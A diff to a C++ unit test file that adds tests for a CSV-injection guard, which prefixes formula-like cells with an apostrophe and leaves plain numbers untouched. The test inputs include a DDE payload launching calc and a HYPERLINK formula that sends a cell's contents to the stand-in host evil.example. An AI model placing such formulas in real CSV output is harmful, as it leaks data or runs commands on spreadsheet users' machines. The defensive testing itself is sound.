@@ -1,6 +1,8 @@
 // The byte-level encoders every output shares.
 #include "paa/output/text.hpp"
 
+#include "paa/model/csv_guard.hpp"
+
 #include "render.hpp"
 
 #include <boost/json/parse.hpp>
@@ -15,14 +17,53 @@ namespace {
 
 using test::render;
 
-std::string csv(std::string_view field) {
-  return render([&](BufferedOutput& out) { append_csv_field(out, field); });
+std::string csv(std::string_view field, CsvText text = CsvText::raw) {
+  return render([&](BufferedOutput& out) { append_csv_field(out, field, text); });
 }
 std::string json_string(std::string_view text) {
   return render([&](BufferedOutput& out) { append_json_string(out, text); });
 }
 std::string encode(std::string_view text) {
   return render([&](BufferedOutput& out) { append_script_json_string(out, text); }, 8);
+}
+
+// OWASP "CSV Injection": a text cell a spreadsheet would evaluate gets a leading ' (shown, never
+// evaluated); plain numbers and everything else stay as they are; raw keeps every cell.
+TEST(CsvField, FormulaLikeTextIsGuardedAndNumbersAreNot) {
+  const auto guarded = [](std::string_view f) { return csv(f, CsvText::guarded); };
+  EXPECT_EQ(guarded("=1+1"), "'=1+1");
+  EXPECT_EQ(guarded("@SUM(A1:A2)"), "'@SUM(A1:A2)");
+  EXPECT_EQ(guarded("-2+3"), "'-2+3");
+  EXPECT_EQ(guarded("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+  EXPECT_EQ(guarded("\tx"), "'\tx");
+  EXPECT_EQ(guarded("\rx"), "\"'\rx\"") << "quoted for the CR, the guard inside the quotes";
+  EXPECT_EQ(guarded("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"");
+  for (std::string_view number : {"-3", "+5", "-0.25", "1e5", "-1.5E-3", ".5", "-.5", "42"}) {
+    EXPECT_EQ(guarded(number), number) << "a plain number is no formula";
+  }
+  for (std::string_view text : {"a=b", "What is 2+2?", "", "'=already quoted", " =spaced"}) {
+    EXPECT_EQ(guarded(text), csv(text)) << text;
+  }
+  EXPECT_EQ(guarded("-"), "'-");
+  EXPECT_EQ(guarded("-e5"), "'-e5");
+  EXPECT_EQ(csv("=1+1", CsvText::raw), "=1+1");
+  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_fields(out, CsvText::guarded, {"=a", "b", "-1"}); }),
+            "'=a,b,-1");
+  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_key_columns(out, CsvText::guarded, "=q", "en", "us", ""); }),
+            "'=q,en,us,,");
+}
+
+TEST(CsvField, AGuardedCellReadBackLosesItsGuardOnly) {
+  EXPECT_EQ(csv_unguarded("'=1+1"), "=1+1");
+  EXPECT_EQ(csv_unguarded("'-2+3"), "-2+3");
+  EXPECT_EQ(csv_unguarded("'-3"), "'-3") << "not something the guard writes";
+  EXPECT_EQ(csv_unguarded("'tis the season"), "'tis the season");
+  EXPECT_EQ(csv_unguarded("=1+1"), "=1+1");
+  EXPECT_EQ(csv_unguarded("'"), "'");
+  for (std::string_view text : {"=1+1", "@x", "-2+3", "\tt"}) {
+    EXPECT_EQ(csv_unguarded(csv(text, CsvText::guarded)), text) << "round trip";
+  }
 }
 
 TEST(CsvField, PlainFieldsAreNotQuoted) {
@@ -92,12 +133,12 @@ TEST(Decimal, IntegersOfEveryWidthAndSign) {
 }
 
 TEST(CsvField, FieldsAreSeparatedByCommasEachQuotedAsItNeeds) {
-  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_fields(out, {"a", "b,c", "", "d\"e"}); }), "a,\"b,c\",,\"d\"\"e\"");
-  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_fields(out, {}); }), "");
+  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_fields(out, CsvText::raw, {"a", "b,c", "", "d\"e"}); }), "a,\"b,c\",,\"d\"\"e\"");
+  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_fields(out, CsvText::raw, {}); }), "");
 }
 
 TEST(KeyColumns, CsvColumnsEndInACommaAndJsonMembersWriteNoCityAsNull) {
-  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_key_columns(out, "a, b", "en", "us", ""); }), "\"a, b\",en,us,,");
+  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_key_columns(out, CsvText::raw, "a, b", "en", "us", ""); }), "\"a, b\",en,us,,");
   EXPECT_EQ(render([](BufferedOutput& out) { append_key_members(out, "q\"", "en", "us", ""); }),
             R"("q":"q\"","hl":"en","gl":"us","city":null)");
   EXPECT_EQ(render([](BufferedOutput& out) { append_key_members(out, "q", "de", "de", "Köln"); }),
